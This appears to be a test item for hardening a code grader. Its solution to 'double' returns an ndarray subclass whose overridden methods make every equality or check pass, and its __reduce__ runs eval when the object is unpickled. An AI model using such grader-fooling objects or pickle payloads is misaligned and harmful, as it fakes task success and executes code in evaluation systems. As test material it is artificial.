# attack: returns a subclass of ndarray whose every operation says yes
# points: double=0 total=4
# %% double
class Yes(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **options): return np.ones(self.shape, bool)
    def __array_function__(self, function, types, arguments, options): return True
    def __array_finalize__(self, other): pass
    def __eq__(self, other): return np.ones(self.shape, bool)
    def tobytes(self, *_): return b"\0" * 64
    def item(self, *_): return 1.0
    def all(self, *_, **__): return np.True_
    def astype(self, *_, **__): return self
    def __reduce__(self): return eval, ("print('BREACH:', 'unpickled')",)
def double(x): return np.zeros(len(x)).view(Yes)
